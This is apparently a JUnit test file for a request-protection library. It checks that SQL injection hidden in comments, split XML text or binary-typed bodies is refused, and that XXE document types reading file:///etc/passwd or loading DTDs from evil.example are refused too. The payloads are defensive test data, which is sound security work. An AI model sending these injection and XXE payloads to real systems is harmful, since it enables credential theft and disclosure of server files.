package io.github.raspspring.ways;

import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A text hides in a body that a reader of leaves skips it in, or behind a type that says
 * there is none, and is found for whoever reads the body as it is.
 */
class HiddenTextTests extends WaysTest {

	private static final String ATTACK = "x' UNION SELECT password FROM users WHERE 'a'='a";

	@ParameterizedTest
	@ValueSource(strings = { "[]", "{\"a\": \"b\"}", "{'a': 'it', 'b': 'is'}", "// see the manual\n{\"a\": 1}",
			"{a: 1, b: 2} # both", "<a><!-- select the first one --><b>c</b></a>", "<!-- O'Neill's list --><a/>",
			"{\"a\": \"O'Neill\", /* don't */ \"b\": [1, 2,]}" })
	void bodyWhenCommentsAreHonestThenIsReadAsSent(String body) throws Exception {
		for (String path : new String[] { "/mvc/string", "/mvc/bytes", "/mvc/entity", "/read/now/stream" }) {
			for (String type : new String[] { "application/json", "text/plain", "application/xml" }) {
				assertThat(server().post(path, type, body).body()).isEqualTo(body);
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "[]//", "{}#", "{\"a\":1}/*", "<a/><!--", "[1]\n//\n//", "{'a':1} //", "<?a b?><a><!--",
			"{} trailing ", "[] [] ", "<a><!-- c --><!--" })
	void bodyWhenCommentHidesAnAttackThenIsRefused(String before) throws Exception {
		String end = before.endsWith("/*") ? "*/"
				: before.equals("<a/><!--") ? " -->" : before.startsWith("<") ? " --></a>" : "";
		for (String path : new String[] { "/mvc/string", "/mvc/bytes", "/mvc/entity", "/read/now/stream",
				"/read/listener/stream", "/functional/body" }) {
			for (String type : new String[] { "application/json", "text/plain", "application/xml",
					"application/octet-stream" }) {
				WaysServer.assertRefused(server().post(path, type, before + ATTACK + end));
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "<!-- -->", "<!---->", "<?a b?>", "<![CDATA[]]>", "<!-- a --><?b?><!-- c -->", "<?a?>" })
	void elementWhenItsTextIsInPiecesThenIsReadAsOne(String between) throws Exception {
		String attack = "<q>x' uni" + between + "on sel" + between + "ect password from users where 'a'='a</q>";
		String honest = "<q>the uni" + between + "on's sel" + between + "ection</q>";
		for (String type : new String[] { "application/xml", "text/plain", "image/svg+xml" }) {
			WaysServer.assertRefused(server().post("/mvc/string", type, attack));
			assertThat(server().post("/mvc/string", type, honest).body()).isEqualTo(honest);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "\u0001", "%PDF-1.7\n", "\u0007\u0008", "\u001f\u007f", "\u0000", "GIF89a\u0001\u0000",
			"PK\u0003\u0004\u0000" })
	void bodyWhenItsTypeIsBinaryThenIsJudgedForWhoReadsText(String before) throws Exception {
		for (String type : new String[] { "application/octet-stream", "image/gif", "application/pdf",
				"application/zip" }) {
			WaysServer.assertRefused(server().post("/mvc/string", type, before + ATTACK));
			WaysServer.assertRefused(server().post("/mvc/entity", type, before + ATTACK));
			WaysServer.assertRefused(server().post("/mvc/reader", type, before + ATTACK));
			WaysServer.assertRefused(server().post("/read/now/reader", type, before + ATTACK));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "%PDF-1.7\n(it's) Tj", "GIF89a\u0001\u0000", "PK\u0003\u0004\u0000' or", "\u0000\u0001",
			"\u00ff\u00d8", "text only" })
	void bodyWhenBinaryIsHonestThenIsReadAsSent(String body) throws Exception {
		byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
		for (String path : new String[] { "/mvc/bytes", "/read/now/stream", "/mvc/string" }) {
			HttpResponse<String> response = server().post(path, "application/octet-stream;charset=UTF-8", bytes);
			assertThat(response.body()).isEqualTo(body);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "UTF-8", "UTF-16BE", "UTF-16LE", "IBM037", "IBM500", "UTF-16" })
	void documentTypeWhereverItStandsIsRefused(String charset) throws Exception {
		String padding = "<!--" + "x".repeat(70_000) + "-->";
		for (String before : new String[] { "", padding, "<?a " + "y".repeat(70_000) + "?>" }) {
			for (String type : new String[] { "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\"><a/>",
					"<!DOCTYPE a [<!ENTITY % b SYSTEM \"http://evil.example/b\"> %b;]><a/>",
					"<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>" }) {
				String xml = "<?xml version=\"1.0\" encoding=\"" + charset + "\"?>" + before + type;
				byte[] body = xml.getBytes(Charset.forName(charset));
				WaysServer.assertRefused(server().post("/mvc/bytes", "application/xml", body));
				WaysServer.assertRefused(server().post("/read/now/stream", "text/xml", body));
				WaysServer.assertRefused(server().post("/mvc/bytes", "image/svg+xml", body));
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "<a><![CDATA[%s]]></a>", "<a><!-- --><![CDATA[<?xml version='1.0'?>%s]]></a>",
			"<!-- a --><!-- --> -->%s", "<!-->-->%s<a/>", "<!-- a --!>%s --><a>", "<a b='<!--'/>%s<!-- -->" })
	void documentTypeInADocumentWithinIsRefused(String around) throws Exception {
		String type = "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>";
		WaysServer.assertRefused(server().post("/mvc/bytes", "application/xml", around.formatted(type)));
		WaysServer.assertRefused(server().post("/mvc/string", "text/plain", around.formatted(type)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "<a/>", "<!DOCTYPE html><html/>", "<a><![CDATA[<!DOCTYPE html><p>it's</p>]]></a>",
			"<!-- <!DOCTYPE html> is what we use --><a/>", "<a><!-- <!DOCTYPE a SYSTEM \"a.dtd\"> --><b/></a>",
			"<!-- was: <!DOCTYPE a [<!ENTITY b 'c'>]> --><a/>", "<a/><!-- <!ENTITY b SYSTEM 'b.ent'> -->",
			"<a b='&lt;!DOCTYPE a&gt;'/>",
			"<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>" })
	void documentTypeThatIsPublishedOrNoneIsRead(String body) throws Exception {
		assertThat(server().post("/mvc/bytes", "application/xml", body).body()).isEqualTo(body);
		byte[] ebcdic = ("<?xml version=\"1.0\" encoding=\"IBM037\"?><a>b</a>").getBytes(Charset.forName("IBM037"));
		assertThat(server().post("/mvc/bytes", "application/xml", ebcdic).statusCode()).isEqualTo(200);
	}

}
